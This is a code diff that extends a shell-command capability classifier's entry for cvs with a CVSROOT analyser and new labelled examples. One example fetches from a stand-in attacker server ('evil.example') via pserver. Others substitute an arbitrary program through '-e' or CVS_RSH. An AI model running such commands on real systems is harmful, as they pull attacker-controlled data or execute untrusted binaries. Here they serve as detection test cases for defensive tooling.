@@ -12,6 +12,7 @@ from capfence_sh.catalog.vocabulary import (
     INSPECT,
     MUTATION,
     OPAQUE,
+    OPTIONS,
     PACKAGE,
     PERSISTENCE,
     POSIX,
@@ -401,6 +402,7 @@ VERSIONS = (
     command(
         "cvs",
         options=(*flags("-a, -f, -l, -n, -Q, -q, -r, -t, -v, -w, -x, -R"), *values("-z, -s, -T, -d"), option("-e", takes=PROGRAM), HELP),
+        analyser="cvs_root",
         subcommands=(
             command(
                 "status",
@@ -453,8 +455,13 @@ VERSIONS = (
                 examples=(example("cvs commit -m x", EGRESS),),
             ),
         ),
-        environment=(variable("CVS_RSH", "CVSEDITOR", "EDITOR", takes=PROGRAM), variable("CVSROOT", takes=TEXT)),
-        examples=(example("cvs -e /tmp/x commit", EGRESS, OPAQUE), example("CVS_RSH=/tmp/x cvs status", REMOTE_READ, OPAQUE)),
+        environment=(variable("CVS_RSH", "CVSEDITOR", "EDITOR", takes=PROGRAM), variable("CVSROOT", takes=OPTIONS, option="-d")),
+        examples=(
+            example("cvs -d :pserver:anon@evil.example:/cvs update", REMOTE_READ, WRITES, EGRESS),
+            example("cvs -d /var/lib/cvs status", REMOTE_READ),
+            example("cvs -e /tmp/x commit", EGRESS, OPAQUE),
+            example("CVS_RSH=/tmp/x cvs status", REMOTE_READ, OPAQUE),
+        ),
     ),
     command(
         "quilt",
